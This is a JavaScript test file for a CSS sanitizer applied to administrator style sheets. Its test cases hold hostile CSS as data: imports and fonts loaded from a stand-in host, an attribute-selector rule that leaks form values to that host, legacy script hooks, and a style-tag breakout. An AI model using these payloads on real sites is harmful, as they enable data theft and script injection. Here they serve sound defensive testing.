import { cleanStyle } from './clean-style.js';

describe('style sheets of administrators', () => {
  it('keep what styles', () => {
    const css = '.brand { color: #123456; } @media (min-width: 40rem) { main { padding: 1rem } }';
    expect(cleanStyle(css)).toBe(css);
  });

  it('keep inline pictures', () => {
    expect(cleanStyle("body { background: url('data:image/png;base64,AAAA') }")).toBe(
      'body { background: url("data:image/png;base64,AAAA") }',
    );
  });

  it.each([
    ['an import', '@import url(https://evil.test/a.css); h1 { color: red }', 'h1 { color: red }'],
    ['an import with a text', '@import "https://evil.test/a.css"; h1 { color: red }', 'h1 { color: red }'],
    ['a font', '@font-face { font-family: x; src: url(https://evil.test/f) } h1 { color: red }', 'h1 { color: red }'],
    [
      'an address',
      'input[value^="a"] { background: url(https://evil.test/a) }',
      'input[value^="a"] { background: none }',
    ],
    ['an address in quotes', 'i { background: URL( "//evil.test/a" ) }', 'i { background: none }'],
    ['an image set', 'i { background: image-set("https://evil.test/a" 1x) }', 'i { background: none }'],
    [
      'a comment that hides',
      'i { background: u/**/rl(https://evil.test) }',
      'i { background: u rl(https://evil.test) }',
    ],
    ['an old script', 'i { width: expression(alert(1)) }', 'i { width: alert(1)) }'],
    ['a script address', 'i { background: url(javascript:alert(1)) }', 'i { background: none) }'],
    ['a behavior', 'i { behavior: x; -moz-binding: y }', 'i {  x;  y }'],
  ])('lose %s', (_what, css, left) => {
    expect(cleanStyle(css)).toBe(left);
  });

  it.each([
    ['a tag', 'i { color: red } </style><script>'],
    ['an escape', 'i { background: \\75 rl(https://evil.test) }'],
    ['braces that do not match', 'i { color: red } } body {'],
    ['an open brace', 'i { color: red'],
  ])('are nothing with %s', (_what, css) => {
    expect(cleanStyle(css)).toBe('');
  });

  it('are cleaned in no time, however they are written', () => {
    const began = performance.now();
    for (const part of ['@import ', 'url(', '/*', 'image-set(', '@font-face{', 'url("'])
      cleanStyle(part.repeat(40_000 / part.length));
    expect(performance.now() - began).toBeLessThan(2000);
  });
});
